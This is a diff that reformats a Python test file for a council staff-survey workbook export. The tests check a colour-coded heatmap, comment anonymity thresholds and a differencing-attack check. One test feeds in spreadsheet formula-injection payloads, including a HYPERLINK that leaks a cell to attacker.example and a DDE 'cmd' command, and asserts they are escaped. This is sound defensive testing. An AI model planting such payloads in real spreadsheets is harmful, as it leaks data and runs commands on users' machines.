@@ -57,7 +57,12 @@ def test_summary_gives_the_cycle_and_every_standard(db, council):
     assert facts["Compared with"] == "No earlier cycle to compare with"
     header_row = next(row[0].row for row in sheet.iter_rows() if row[0].value == "Standard")
     assert [cell.value for cell in sheet[header_row]][:5] == [
-        "Standard", "Score", "Band", "Change since last cycle", "Coverage"]
+        "Standard",
+        "Score",
+        "Band",
+        "Change since last cycle",
+        "Coverage",
+    ]
     standards = rows_of(sheet, header_row + 1)[:8]
     for row, standard in zip(standards, view["standards"]):
         assert row[0] == f"{standard['number']} {standard['title']}"
@@ -146,13 +151,17 @@ def test_teams_sheet_is_a_heatmap_coloured_by_band(db, council):
     low_cell = next(cell for cell in sheet[row][5:13] if cell.value <= 50)
     assert low_cell.number_format == '0" Low"'
     rules = band_rules(sheet)
-    (cells, formats), = rules.items()
+    ((cells, formats),) = rules.items()
     assert cells.startswith("F6:M")
     assert [rule.type for rule in formats] == ["expression"] * 3
     assert [rule.formula[0] for rule in formats] == [
-        "AND(ISNUMBER(F6),F6>=0,F6<=50)", "AND(ISNUMBER(F6),F6>=51,F6<=74)", "AND(ISNUMBER(F6),F6>=75,F6<=100)"]
-    assert all(rule.dxf.fill.fgColor.rgb.endswith(colour) for rule, colour in zip(formats, ["F6D7D2", "FFF1C2",
-                                                                                          "CCE2D8"]))
+        "AND(ISNUMBER(F6),F6>=0,F6<=50)",
+        "AND(ISNUMBER(F6),F6>=51,F6<=74)",
+        "AND(ISNUMBER(F6),F6>=75,F6<=100)",
+    ]
+    assert all(
+        rule.dxf.fill.fgColor.rgb.endswith(colour) for rule, colour in zip(formats, ["F6D7D2", "FFF1C2", "CCE2D8"])
+    )
 
 
 def test_hidden_groups_are_words_never_numbers(db, council):
@@ -193,8 +202,9 @@ def test_attack_on_the_workbook_recovers_nothing(db, seeded, small_team_truth):
     summary = book["Summary"]
     header_row = next(row[0].row for row in summary.iter_rows() if row[0].value == "Standard")
     assert [row[1] for row in rows_of(summary, header_row + 1)[:8]] == total[1]
-    assert not any(isinstance(value, (int, float)) for name, value in teams[SMALL].items()
-                   if name not in ("Eligible staff",))
+    assert not any(
+        isinstance(value, (int, float)) for name, value in teams[SMALL].items() if name not in ("Eligible staff",)
+    )
     shown_teams = {name: (*group(row), differencing.AREA.get(name)) for name, row in teams.items() if shown(row)}
     shown_services = {name: group(row) for name, row in services.items() if shown(row)}
     differencing.run_attacks(total, shown_teams, shown_services, small_team_truth)
@@ -208,9 +218,15 @@ def test_comments_by_standard_only_where_the_threshold_allows(db, council):
     assert [cell.value for cell in sheet[4]] == ["Standard", "Group", "Question", "Comment"]
     rows = rows_of(sheet, 5)
     written = [(row[0], row[1], row[3]) for row in rows if row[3] != "No comments"]
-    expected = [(f"{number} {next(s['title'] for s in view['standards'] if s['number'] == number)}",
-                 comment["group"], comment["text"])
-                for number, comments in view["comments"].items() for comment in comments]
+    expected = [
+        (
+            f"{number} {next(s['title'] for s in view['standards'] if s['number'] == number)}",
+            comment["group"],
+            comment["text"],
+        )
+        for number, comments in view["comments"].items()
+        for comment in comments
+    ]
     assert written == expected and len(written) == 32
     groups = {group for _, group, _ in written}
     assert SMALL not in groups and "Other teams" in groups
@@ -226,36 +242,55 @@ def test_no_comments_before_the_threshold_is_reached(db, make_cycle):
     bank = cycles.cycle_bank(cycle)
     team = cycles.teams_for(db, cycle["id"])[0]
     for number in range(K - 1):
-        store_response(db, cycle, bank, Response(team_id=team["id"], role_group="social_worker", answers={},
-                                                 comments={3: f"Secret comment {number}"}))
+        store_response(
+            db,
+            cycle,
+            bank,
+            Response(
+                team_id=team["id"], role_group="social_worker", answers={}, comments={3: f"Secret comment {number}"}
+            ),
+        )
     sheet = export(db, cycle)["Comments"]
     text = " ".join(str(value) for row in rows_of(sheet) for value in row if value)
     assert "Secret comment" not in text
     assert "Comments are shown once at least 5 people have answered." in text
 
 
-CRAFTED = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1",
-           "-2+3", "=1+1"]
+CRAFTED = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1+1",
+    "-2+3",
+    "=1+1",
+]
 
 
 def test_formula_crafted_comments_and_names_are_never_formulas(db, make_cycle):
     cycle = seed_results(db, make_cycle)
-    response_ids = [row["id"] for row in db.query("select id from responses where cycle_id = ? order by id",
-                                                   [cycle["id"]])]
+    response_ids = [
+        row["id"] for row in db.query("select id from responses where cycle_id = ? order by id", [cycle["id"]])
+    ]
     # stored as they are, whatever the survey would have trimmed: the workbook must be safe regardless
-    db["comments"].insert_all({"response_id": response_ids[index], "standard": 5, "text": text}
-                              for index, text in enumerate(CRAFTED))
+    db["comments"].insert_all(
+        {"response_id": response_ids[index], "standard": 5, "text": text} for index, text in enumerate(CRAFTED)
+    )
     team = cycles.teams_for(db, cycle["id"])[0]
-    db["teams"].update(team["id"], {"name": "=HYPERLINK(\"http://attacker.example\")"})
+    db["teams"].update(team["id"], {"name": '=HYPERLINK("http://attacker.example")'})
     db["cycles"].update(cycle["id"], {"name": "@SUM(1)"})
     book = export(db, cycles.get_cycle(db, cycle["slug"]))
-    assert [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
-            if cell.data_type == "f"] == []
+    assert [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ] == []
     comments = [row[3] for row in rows_of(book["Comments"], 5)]
     for text in CRAFTED:
         assert "'" + text in comments
     teams = [row[0] for row in rows_of(book["Teams"])]
-    assert "'=HYPERLINK(\"http://attacker.example\")" in teams
+    assert '\'=HYPERLINK("http://attacker.example")' in teams
 
 
 def test_the_results_sheets_read_only_the_disclosable_view(db, council, monkeypatch):
